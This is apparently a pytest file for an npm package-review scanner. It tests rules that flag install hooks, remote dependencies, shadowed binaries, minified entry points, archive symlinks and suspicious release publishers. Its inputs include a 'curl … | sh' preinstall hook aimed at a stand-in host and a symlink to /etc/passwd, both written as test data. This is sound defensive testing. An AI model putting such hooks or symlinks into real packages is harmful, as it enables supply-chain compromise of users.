"""Package-level rules (package.json, shape, archive anomalies) and release rules: fires, stays
quiet, and what was already there reads as existing."""

from __future__ import annotations

import tarfile
from typing import Any

from reviews.inspect.rules import Publisher, ReleaseFacts, Severity, Status, release_findings
from tests.inspect.builders import Entry, make_tarball
from tests.inspect.rules_support import describe, manifest, of, scan, scan_tarballs

HOOK = {"scripts": {"postinstall": "node setup.js"}}


def statuses(findings, rule):
    return [(f.where, f.severity, f.status) for f in of(findings, rule)]


def test_install_script_added_changed_existing():
    added = scan({}, {}, new_manifest=HOOK)
    changed = scan({}, {}, old_manifest=HOOK, new_manifest={"scripts": {"postinstall": "node x"}})
    same = scan({}, {}, old_manifest=HOOK, new_manifest=HOOK)
    other = scan({}, {}, new_manifest={"scripts": {"test": "node test.js"}})

    assert statuses(added, "lifecycle.install-script") == [
        ("package.json:5", Severity.HIGH, Status.NEW)
    ]
    assert [f.status for f in of(changed, "lifecycle.install-script")] == [Status.CHANGED]
    assert [f.status for f in of(same, "lifecycle.install-script")] == [Status.EXISTING]
    assert of(other, "lifecycle.install-script") == []


def test_prepare_is_medium():
    found = scan({}, {}, new_manifest={"scripts": {"prepare": "tsc"}})

    assert [f.severity for f in of(found, "lifecycle.install-script")] == [Severity.MEDIUM]


def test_binding_gyp_runs_node_gyp_at_install():
    gyp = "{ 'targets': [] }\n"

    added = scan({}, {"binding.gyp": gyp})
    existing = scan({"binding.gyp": gyp}, {"binding.gyp": gyp})

    assert statuses(added, "lifecycle.binding-gyp") == [
        ("binding.gyp", Severity.MEDIUM, Status.NEW)
    ]
    assert of(existing, "lifecycle.binding-gyp") == []  # no change to the implicit hook
    assert of(scan({}, {"x.gyp": gyp}), "lifecycle.binding-gyp") == []


def test_a_script_that_downloads_and_runs_is_critical_in_an_install_hook():
    curl = "curl -s https://x.example/i.sh | sh"

    hook = scan({}, {}, new_manifest={"scripts": {"preinstall": curl}})
    other = scan({}, {}, new_manifest={"scripts": {"fetch-data": curl}})
    quiet = scan({}, {}, new_manifest={"scripts": {"preinstall": "node build.js"}})

    assert [f.severity for f in of(hook, "lifecycle.download-and-run")] == [Severity.CRITICAL]
    assert [f.severity for f in of(other, "lifecycle.download-and-run")] == [Severity.HIGH]
    assert of(quiet, "lifecycle.download-and-run") == []


def test_dependencies_added_by_kind():
    found = scan(
        {},
        {},
        new_manifest={
            "dependencies": {"left-pad": "^1.3.0"},
            "devDependencies": {"jest": "^29.0.0"},
            "bundleDependencies": ["left-pad"],
        },
    )

    titles = {f.title: f.severity for f in of(found, "deps.added")}
    assert titles["New dependency: left-pad ^1.3.0"] is Severity.LOW
    assert titles["New dev dependency: jest ^29.0.0"] is Severity.INFO
    assert titles["New bundled dependency: left-pad bundled"] is Severity.MEDIUM
    assert of(scan({}, {}), "deps.added") == []


def test_dependency_specs_from_outside_the_registry():
    found = scan(
        {},
        {},
        new_manifest={
            "dependencies": {
                "evil": "git+https://git.example/x.git",
                "tar": "https://x.example/t.tgz",
                "local": "file:../local",
                "fine": "^1.0.0",
            },
            "devDependencies": {"helper": "github:someone/helper"},
        },
    )

    remote = {f.excerpt.split(":")[0]: f.severity for f in of(found, "deps.remote-spec")}
    assert remote == {
        "evil": Severity.HIGH,
        "tar": Severity.HIGH,
        "local": Severity.HIGH,
        "helper": Severity.MEDIUM,
    }


def test_alias_major_jump_and_shrinkwrap():
    old = {"dependencies": {"a": "^1.2.0", "b": "^1.0.0"}}
    new = {"dependencies": {"a": "^2.0.0", "b": "^1.5.0", "lodash": "npm:lodash-es@^4"}}

    found = scan({}, {"npm-shrinkwrap.json": "{}\n"}, old_manifest=old, new_manifest=new)

    assert [f.excerpt for f in of(found, "deps.major-jump")] == ["a: ^2.0.0"]
    assert [f.severity for f in of(found, "deps.alias")] == [Severity.MEDIUM]
    assert statuses(found, "deps.shrinkwrap") == [
        ("npm-shrinkwrap.json", Severity.MEDIUM, Status.NEW)
    ]
    assert of(scan({"npm-shrinkwrap.json": "{}\n"}, {}), "deps.shrinkwrap") == []


def test_bin_entries_and_shadowed_commands():
    found = scan({}, {"x.js": "1\n"}, new_manifest={"bin": {"node": "x.js", "mytool": "x.js"}})
    same = scan(
        {"x.js": "1\n"},
        {"x.js": "2\n"},
        old_manifest={"bin": {"mytool": "x.js"}},
        new_manifest={"bin": {"mytool": "x.js"}},
    )

    severities = {f.excerpt: f.severity for f in of(found, "manifest.bin")}
    assert severities == {"node: x.js": Severity.HIGH, "mytool: x.js": Severity.MEDIUM}
    assert of(same, "manifest.bin") == []


def test_entry_point_moved_to_a_new_minified_file():
    minified = ";".join(f"var a{i}={i}" for i in range(800)) + "\n"

    moved = scan(
        {"lib/index.js": "module.exports = 1\n"},
        {"lib/index.js": "module.exports = 1\n", "dist/app.min.js": minified},
        old_manifest={"main": "lib/index.js"},
        new_manifest={"main": "dist/app.min.js"},
    )
    readable = scan(
        {"lib/index.js": "module.exports = 1\n"},
        {"lib/index.js": "module.exports = 1\n", "lib/next.js": "module.exports = 2\n"},
        old_manifest={"main": "lib/index.js"},
        new_manifest={"exports": {".": "./lib/next.js"}},
    )
    same = scan(
        {"lib/index.js": "module.exports = 1\n"},
        {"lib/index.js": "module.exports = 2\n"},
        old_manifest={"main": "lib/index.js"},
        new_manifest={"main": "./lib/index.js"},
    )

    assert [(f.title, f.severity) for f in of(moved, "manifest.entry-point")] == [
        ("main now points to dist/app.min.js, a new and minified file", Severity.HIGH)
    ]
    assert [f.severity for f in of(readable, "manifest.entry-point")] == [Severity.MEDIUM]
    assert of(same, "manifest.entry-point") == []


def test_size_and_file_count_jump():
    grown = scan({"a.js": "1\n"}, {f"f{i}.js": f"{i}\n" for i in range(40)})
    steady = scan({"a.js": "1\n"}, {"a.js": "2\n", "b.js": "3\n"})

    assert [f.severity for f in of(grown, "package.size-jump")] == [Severity.LOW]
    assert of(steady, "package.size-jump") == []


def test_license_change():
    changed = scan({}, {}, old_manifest={"license": "MIT"}, new_manifest={"license": "BUSL-1.1"})
    same = scan({}, {}, old_manifest={"license": "MIT"}, new_manifest={"license": "MIT"})

    assert [f.title for f in of(changed, "release.license-changed")] == [
        "License changed: MIT → BUSL-1.1"
    ]
    assert of(same, "release.license-changed") == []


def test_archive_anomalies_become_findings_with_their_status():
    link = Entry("package/evil", type=tarfile.SYMTYPE, linkname="/etc/passwd")
    files = [Entry("package/package.json", manifest(version="1.1.0").encode())]
    plain = make_tarball(files)
    linked = make_tarball([*files, link])

    new = scan_tarballs(plain, linked).findings
    existing = scan_tarballs(linked, linked).findings
    quiet = scan_tarballs(plain, plain).findings

    assert statuses(new, "archive.symlink") == [("package/evil", Severity.HIGH, Status.NEW)]
    assert [f.status for f in of(existing, "archive.symlink")] == [Status.EXISTING]
    assert of(quiet, "archive.symlink") == [], describe(quiet)


# -- Release --------------------------------------------------------------------------------


def facts(**overrides):
    base: dict[str, Any] = {
        "version": "1.4.1",
        "tag": "latest",
        "actor": "alice",
        "actor_type": "user",
        "dist_tags": {"latest": "1.4.0"},
        "publishers": [Publisher("1.4.0", "alice"), Publisher("1.3.0", "alice")],
    }
    base.update(overrides)
    return ReleaseFacts(**base)


def rules(found):
    return {f.rule: f for f in found}


def test_tag_downgrade():
    fires = release_findings(facts(dist_tags={"latest": "2.0.0"}))
    quiet = release_findings(facts())
    other_tag = release_findings(facts(tag="legacy", dist_tags={"latest": "2.0.0"}))

    assert rules(fires)["release.tag-downgrade"].title == (
        "Approving would move latest from 2.0.0 back to 1.4.1"
    )
    assert rules(fires)["release.tag-downgrade"].severity is Severity.HIGH
    assert "release.tag-downgrade" not in rules(quiet)
    assert "release.tag-downgrade" not in rules(other_tag)


def test_a_stager_who_published_none_of_the_recent_versions():
    fires = release_findings(facts(actor="mallory"))
    quiet = release_findings(facts())

    assert rules(fires)["release.new-publisher"].title == (
        "Staged by mallory; the last 2 versions were published by alice"
    )
    assert "release.new-publisher" not in rules(quiet)


def test_trusted_automation_then_a_person():
    automated = [Publisher("1.4.0", "gh-actions", automated=True)]

    fires = release_findings(facts(publishers=automated, actor="gh-actions"))
    by_automation = release_findings(
        facts(publishers=automated, actor="gh-actions", actor_type="trusted automation")
    )

    assert rules(fires)["release.automation-then-person"].severity is Severity.HIGH
    assert "release.automation-then-person" not in rules(by_automation)
    assert "release.automation-then-person" not in rules(release_findings(facts()))
